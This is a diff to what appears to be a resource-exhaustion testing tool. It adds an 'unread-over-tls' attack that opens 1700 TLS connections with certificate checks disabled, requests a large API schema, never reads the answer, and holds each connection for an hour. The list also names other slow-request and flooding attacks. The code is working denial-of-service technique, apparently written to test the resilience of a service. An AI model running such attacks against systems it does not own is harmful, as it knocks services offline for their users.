@@ -20,6 +20,7 @@ import os
 import random
 import resource
 import secrets
+import ssl
 import sys
 import time
 import uuid
@@ -259,6 +260,30 @@ async def pipelined(target):
     await swarm(target, 600, one)
 
 
+# TLS sessions that ask for a large answer and read nothing of it. The port is that of HTTPS.
+async def unread_over_tls(target):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+
+    async def one(number):
+        async with Connection(target, number, SMALL_WINDOW) as connection:
+            came, goes = ssl.MemoryBIO(), ssl.MemoryBIO()
+            session = context.wrap_bio(came, goes)
+            while True:
+                try:
+                    session.do_handshake()
+                    break
+                except ssl.SSLWantReadError:
+                    await connection.send(goes.read())
+                    came.write(await asyncio.wait_for(connection.read(), 30))
+            target.seen["sessions"] += 1
+            session.write(head("GET", API + "/schema/"))
+            await connection.send(goes.read())
+            await asyncio.sleep(3600)
+
+    await swarm(target, 1700, one)
+
+
 # Uploads in pieces of a byte, none of which is finished.
 async def many_uploads(target):
     async def one(number):
@@ -274,7 +299,7 @@ async def many_uploads(target):
 
 ATTACKS = {call.__name__.replace("_", "-"): call for call in (
     json_nodes, unread_schema, large_texts, trickled_sign_ins, trickled_bodies, slow_uploads, idle_connections,
-    wrong_passwords, full_drive, reservations, push_flood, unfinished_heads, unfinished_bodies, pipelined, many_uploads)}
+    wrong_passwords, full_drive, reservations, push_flood, unfinished_heads, unfinished_bodies, pipelined, many_uploads, unread_over_tls)}
 
 
 async def until_told(attack, target):
